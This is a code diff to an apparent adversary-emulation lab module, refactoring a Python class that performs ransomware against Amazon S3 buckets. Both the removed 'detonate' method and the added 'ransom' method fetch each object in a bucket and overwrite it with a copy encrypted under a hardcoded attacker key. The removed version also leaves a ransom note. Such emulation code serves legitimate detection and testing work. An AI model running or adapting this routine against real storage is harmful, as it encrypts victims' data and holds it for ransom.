@@ -4,10 +4,9 @@ from __future__ import annotations
 
 import hashlib
 from pathlib import Path
+from typing import Any
 
-from lab.attacks.base import Prerequisites
 from lab.attacks.s3_ransomware import S3RansomwareTechnique
-from lab.emulator.endpoints import Endpoints
 
 KEY = hashlib.sha256(b"attacker's key, never shared").digest()
 
@@ -23,13 +22,10 @@ class S3RansomwareClientSideEncryption(S3RansomwareTechnique):
     folder = Path(__file__).parent
     PURPOSE = "target-ransomware-encryption"
 
-    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
-        s3 = endpoints.client("s3", "attacker")
-        bucket = prerequisites["bucket"]
-        for item in s3.list_objects_v2(Bucket=bucket).get("Contents", []):
-            body = s3.get_object(Bucket=bucket, Key=item["Key"])["Body"].read()
-            s3.put_object(Bucket=bucket, Key=item["Key"], Body=encrypted(body))
-        self.leave_note(s3, bucket)
+    def ransom(self, s3: Any, bucket: str, keys: list[str]) -> None:
+        for key in keys:
+            body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
+            s3.put_object(Bucket=bucket, Key=key, Body=encrypted(body))
 
 
 TECHNIQUE = S3RansomwareClientSideEncryption
